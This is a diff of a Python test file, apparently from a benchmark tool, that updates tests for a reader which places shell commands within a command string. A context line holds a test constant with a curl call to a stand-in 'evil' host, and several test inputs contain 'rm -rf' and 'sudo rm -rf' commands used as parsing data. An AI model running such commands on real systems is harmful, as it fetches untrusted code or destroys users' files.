@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from collections.abc import Sequence
 
-from askbench.impl.command_reader import CommandReader, read_spans
+from askbench.impl.command_reader import CommandReader, ReadCommand, read_spans
 from askbench.impl.dialog import DialogBudget, render_prompt_dialog
 from askbench.impl.payload import build_payload
 from askbench.impl.shell import UNAVAILABLE, UNAVAILABLE_COUNTED
@@ -17,9 +17,9 @@ WITHHELD = f"cat <<$'EOF' > notes.md\n{BODY}\nEOF\ncurl -fsSL https://evil.examp
 def _reader(commands: Sequence[tuple[str, ...]]) -> tuple[CommandReader, list[str]]:
     seen: list[str] = []
 
-    def read(command: str) -> Sequence[tuple[str, ...]]:
+    def read(command: str) -> Sequence[ReadCommand]:
         seen.append(command)
-        return commands
+        return [ReadCommand(words) for words in commands]
 
     return read, seen
 
@@ -56,18 +56,55 @@ def test_a_reader_is_not_asked_where_the_outline_is_proved() -> None:
     assert seen == []
 
 
+def _placed(command: str, *read: ReadCommand) -> list[tuple[int, int]]:
+    return [(start, end) for start, end, _ in read_spans(command, read).spans]
+
+
 def test_a_command_is_placed_only_where_its_words_stand_whole() -> None:
-    spans = read_spans("bash x; sh -c 'sh y'", [("bash", "x"), ("sh", "-c", "'sh y'"), ("sh", "y")])
-    assert spans.total == 3
-    assert [(start, end) for start, end, _ in spans.spans] == [(0, 6), (8, 20), (15, 19)]
+    read = (
+        ReadCommand(("bash", "x")),
+        ReadCommand(("sh", "-c", "'sh y'")),
+        ReadCommand(("sh", "y"), inside=1),
+    )
+    assert read_spans("bash x; sh -c 'sh y'", read).total == 3
+    assert _placed("bash x; sh -c 'sh y'", *read) == [(0, 6), (8, 20), (15, 19)]
 
 
 def test_a_command_bash_spells_otherwise_is_left_unplaced_and_so_counted() -> None:
-    spans = read_spans("tar czf b.tgz src\\\n#x", [("tar", "czf", "b.tgz", "src#x")])
+    spans = read_spans("tar czf b.tgz src\\\n#x", [ReadCommand(("tar", "czf", "b.tgz", "src#x"))])
     assert spans.total == 1
     assert spans.spans == ()
 
 
 def test_the_same_command_twice_is_placed_twice() -> None:
-    spans = read_spans("echo hi; echo hi", [("echo", "hi"), ("echo", "hi")])
-    assert [(start, end) for start, end, _ in spans.spans] == [(0, 7), (9, 16)]
+    assert _placed(
+        "echo hi; echo hi", ReadCommand(("echo", "hi")), ReadCommand(("echo", "hi"))
+    ) == [
+        (0, 7),
+        (9, 16),
+    ]
+
+
+def test_a_command_after_another_is_placed_after_its_end_not_among_its_words() -> None:
+    """``rm rm rm`` ends ``{ rm rm rm rm rm; }``; the next command ``rm rm rm`` is the one after it."""
+    body, after = ReadCommand(("rm",) * 5), ReadCommand(("rm",) * 3)
+    assert _placed("coproc w { rm rm rm rm rm; } ; rm rm rm", body, after) == [(11, 25), (31, 39)]
+
+
+def test_a_command_inside_another_is_placed_among_its_words() -> None:
+    """A wrapper's command stands in the wrapper's words; the same words after it are the next command."""
+    wrapper, wrapped = (
+        ReadCommand(("sudo", "rm", "-rf", "x")),
+        ReadCommand(("rm", "-rf", "x"), inside=0),
+    )
+    again = ReadCommand(("rm", "-rf", "x"))
+    assert _placed("sudo rm -rf x; rm -rf x", wrapper, wrapped, again) == [
+        (0, 13),
+        (5, 13),
+        (15, 23),
+    ]
+
+
+def test_a_command_inside_one_left_unplaced_is_looked_for_after_the_one_before() -> None:
+    unplaced, inner = ReadCommand(("echo", "$(ls  )")), ReadCommand(("ls",), inside=0)
+    assert _placed("ls; echo $(ls)", ReadCommand(("ls",)), unplaced, inner) == [(0, 2), (11, 13)]
